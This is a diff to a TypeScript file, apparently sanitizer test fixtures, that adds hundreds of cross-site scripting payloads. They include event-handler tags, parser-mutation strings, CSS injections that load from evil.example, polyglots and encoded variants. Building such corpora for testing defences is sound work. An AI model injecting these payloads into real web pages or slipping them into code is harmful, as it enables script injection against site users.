@@ -140,3 +140,72 @@ export const disguisedPayloads: readonly string[] = [
     ...disguises.flatMap((disguise) => scriptPayloads.map((text) => disguise(text))),
   ]),
 ];
+
+const elements = ['a', 'b', 'body', 'button', 'div', 'form', 'img', 'input', 'svg', 'video', 'x'];
+
+const events = [
+  ...['abort', 'animationend', 'animationstart', 'auxclick', 'beforeinput', 'blur', 'canplay'],
+  ...['change', 'click', 'contextmenu', 'copy', 'cut', 'dblclick', 'drag', 'error', 'focus'],
+  ...['focusin', 'hashchange', 'input', 'invalid', 'keydown', 'load', 'loadstart', 'message'],
+  ...['mouseenter', 'mouseover', 'pageshow', 'paste', 'play', 'pointerdown', 'pointerover'],
+  ...['popstate', 'reset', 'resize', 'scroll', 'scrollend', 'select', 'storage', 'submit'],
+  ...['toggle', 'touchstart', 'transitionend', 'unload', 'wheel'],
+];
+
+/** Every event a browser knows, each on another element. */
+const everyEvent = events.map(
+  (event, n) => `<${elements[n % elements.length]} on${event}=alert(1) autofocus tabindex=1>`,
+);
+
+/** What a reader mends into something else than was written. */
+const mended = [
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<noscript><p id="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+  '<table><td><form><table></form><script>alert(1)</script>',
+  '<select><template><script>alert(1)</script></template></select>',
+  '<img src="x` `<script>alert(1)</script>"` `>',
+  '<a href="\u0001java\nscript:alert(1)">x</a>',
+  '<title><a id="</title><img src=x onerror=alert(1)>">',
+  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
+  '<p style="font-family:\'</style><svg onload=alert(1)>\'">',
+];
+
+const styles = [
+  '<style>*{background:url("javascript:alert(1)")}</style>',
+  '<style>@import url(//evil.example/x.css);</style>',
+  '<div style="width:expression(alert(1))">',
+  '<div style="background:url(//evil.example/x)">',
+  '<p style="-moz-binding:url(//evil.example/x#y)">',
+  '</style><style>body{display:none}</style>',
+  '<link rel=stylesheet href=data:text/css,*{display:none}>',
+];
+
+const manyTongues = [
+  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>',
+  '">><marquee><img src=x onerror=alert(1)></marquee></plaintext\\></|\\><plaintext/onmouseover=alert(1)>',
+  '\'"()&%<acx><ScRiPt >alert(1)</ScRiPt>',
+  '--></script></title></style></textarea><svg onload=alert(1)>',
+];
+
+const encodings: readonly ((text: string) => string)[] = [
+  (text) => text.replace(/[<>]/g, (c) => `&#${c.charCodeAt(0)};`),
+  (text) => text.replace(/</g, '\uff1c').replace(/>/g, '\uff1e'),
+  (text) => text.replace(/</g, '\u2039').replace(/>/g, '\u203a'),
+  (text) => text.replace(/</g, '<\u200b'),
+  (text) => encodeURIComponent(text.replace(/[\ud800-\udfff]/g, '')),
+];
+
+/** Far more than 500, all different: every family, some of them in other clothes. */
+export const manyPayloads: readonly string[] = [
+  ...new Set([
+    ...scriptPayloads,
+    ...everyEvent,
+    ...mended,
+    ...styles,
+    ...manyTongues,
+    ...disguisedPayloads,
+    ...encodings.flatMap((encode) => [...everyEvent, ...mended].map(encode)),
+  ]),
+];
